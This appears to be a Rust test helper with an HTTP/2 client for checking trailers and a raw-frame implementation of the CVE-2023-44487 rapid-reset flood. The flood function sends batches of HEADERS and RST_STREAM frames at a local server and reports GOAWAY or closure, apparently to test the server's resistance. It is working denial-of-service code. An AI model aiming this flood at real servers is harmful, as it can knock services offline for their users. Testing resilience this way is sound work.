//! A small HTTP/2 client (the h2 crate, prior knowledge over clear TCP) for
//! what curl cannot show: request and response trailers, and abuse such as
//! a rapid-reset flood.

use bytes::Bytes;
use http::HeaderMap;
use std::time::Duration;

/// What came back for one request.
#[derive(Debug, Default)]
pub struct H2Response {
    pub status: u16,
    pub headers: HeaderMap,
    pub body: Vec<u8>,
    pub trailers: Option<HeaderMap>,
}

/// One request: `body` sent in 16 KiB DATA frames, then `trailers` if any.
pub fn request(
    port: u16,
    method: &str,
    path: &str,
    body: &[u8],
    trailers: Option<HeaderMap>,
) -> Result<H2Response, String> {
    let body = body.to_vec();
    let method = method.to_string();
    let path = path.to_string();
    crate::backend::runtime().block_on(async move {
        tokio::time::timeout(
            Duration::from_secs(20),
            roundtrip(port, &method, &path, body, trailers),
        )
        .await
        .map_err(|_| "no answer within 20 s".to_string())?
    })
}

async fn roundtrip(
    port: u16,
    method: &str,
    path: &str,
    body: Vec<u8>,
    trailers: Option<HeaderMap>,
) -> Result<H2Response, String> {
    let tcp = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .map_err(|e| e.to_string())?;
    let (mut client, conn) = h2::client::handshake(tcp)
        .await
        .map_err(|e| e.to_string())?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    let req = http::Request::builder()
        .method(method)
        .uri(format!("http://127.0.0.1:{port}{path}"))
        .body(())
        .map_err(|e| e.to_string())?;
    let end = body.is_empty() && trailers.is_none();
    let (resp, mut send) = client.send_request(req, end).map_err(|e| e.to_string())?;
    let upload = async move {
        let mut rest = Bytes::from(body);
        while !rest.is_empty() {
            let n = rest.len().min(16384);
            send.reserve_capacity(n);
            let cap = match std::future::poll_fn(|cx| send.poll_capacity(cx)).await {
                Some(Ok(c)) => c.min(n),
                _ => return Err("request body refused".to_string()),
            };
            if cap == 0 {
                continue;
            }
            let chunk = rest.split_to(cap);
            let last = rest.is_empty() && trailers.is_none();
            send.send_data(chunk, last).map_err(|e| e.to_string())?;
        }
        if let Some(t) = trailers {
            send.send_trailers(t).map_err(|e| e.to_string())?;
        }
        Ok::<_, String>(send)
    };
    let download = async move {
        let resp = resp.await.map_err(|e| e.to_string())?;
        let (parts, mut recv) = resp.into_parts();
        let mut out = H2Response {
            status: parts.status.as_u16(),
            headers: parts.headers,
            ..H2Response::default()
        };
        while let Some(d) = recv.data().await {
            let d = d.map_err(|e| e.to_string())?;
            let _ = recv.flow_control().release_capacity(d.len());
            out.body.extend_from_slice(&d);
        }
        out.trailers = recv.trailers().await.map_err(|e| e.to_string())?;
        Ok::<_, String>(out)
    };
    // The stream must stay open (its SendStream alive) until the response
    // has been read, so both run together.
    let (up, down) = tokio::join!(upload, download);
    up?;
    down
}

/// How a rapid-reset flood ended.
#[derive(Debug)]
pub struct FloodOutcome {
    /// Streams opened and reset before the connection went away.
    pub streams: usize,
    /// The server closed the connection (GOAWAY or EOF) before the flood ended.
    pub closed_by_server: bool,
    /// The GOAWAY error code, when there was one.
    pub goaway: Option<u32>,
}

/// Opens up to `count` streams, resetting each right after its HEADERS
/// (CVE-2023-44487), within `within`.
///
/// Written on raw frames rather than the h2 crate: the crate, once it has
/// read a GOAWAY, shuts its own write side down, and a frame it still
/// flushes then fails with EPIPE, which it reports instead of the GOAWAY.
/// Here a reader thread records the GOAWAY frame itself.
pub fn rapid_reset(port: u16, count: usize, within: Duration) -> FloodOutcome {
    use std::io::{Read, Write};
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    let mut out = FloodOutcome {
        streams: 0,
        closed_by_server: false,
        goaway: None,
    };
    let Ok(mut tcp) = std::net::TcpStream::connect(("127.0.0.1", port)) else {
        return out;
    };
    let Ok(mut rd) = tcp.try_clone() else {
        return out;
    };
    let _ = rd.set_read_timeout(Some(within + Duration::from_secs(5)));
    let ended = Arc::new(AtomicBool::new(false));
    let ended_r = ended.clone();
    // Frames from the server: SETTINGS are acknowledged by the writer's
    // preface ACK below; the reader only looks for GOAWAY and the close.
    let reader = std::thread::spawn(move || {
        let mut goaway = None;
        let mut head = [0u8; 9];
        loop {
            if rd.read_exact(&mut head).is_err() {
                break;
            }
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0u8; len];
            if rd.read_exact(&mut payload).is_err() {
                break;
            }
            if head[3] == 0x7 && len >= 8 {
                goaway = Some(u32::from_be_bytes([
                    payload[4], payload[5], payload[6], payload[7],
                ]));
            }
        }
        ended_r.store(true, Ordering::Relaxed);
        goaway
    });
    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // Empty SETTINGS, then an ACK of the server's.
    preface.extend_from_slice(&[0, 0, 0, 0x4, 0, 0, 0, 0, 0]);
    preface.extend_from_slice(&[0, 0, 0, 0x4, 0x1, 0, 0, 0, 0]);
    if tcp.write_all(&preface).is_err() {
        out.closed_by_server = true;
        out.goaway = reader.join().ok().flatten();
        return out;
    }
    // :method GET, :scheme http, :path / (static table), :authority x
    // (literal without indexing, name index 1).
    let block: &[u8] = &[0x82, 0x86, 0x84, 0x01, 0x01, b'x'];
    let deadline = std::time::Instant::now() + within;
    let mut stream_id: u32 = 1;
    while out.streams < count && std::time::Instant::now() < deadline {
        if ended.load(Ordering::Relaxed) {
            break;
        }
        let mut batch = Vec::with_capacity(64 * 32);
        for _ in 0..64 {
            let id = stream_id.to_be_bytes();
            // HEADERS, END_HEADERS | END_STREAM.
            batch.extend_from_slice(&[0, 0, block.len() as u8, 0x1, 0x5]);
            batch.extend_from_slice(&id);
            batch.extend_from_slice(block);
            // RST_STREAM(CANCEL).
            batch.extend_from_slice(&[0, 0, 4, 0x3, 0]);
            batch.extend_from_slice(&id);
            batch.extend_from_slice(&0x8u32.to_be_bytes());
            stream_id += 2;
        }
        if tcp.write_all(&batch).is_err() {
            break;
        }
        out.streams += 64;
    }
    let _ = tcp.shutdown(std::net::Shutdown::Write);
    out.goaway = reader.join().ok().flatten();
    out.closed_by_server = out.goaway.is_some() || out.streams < count;
    out
}
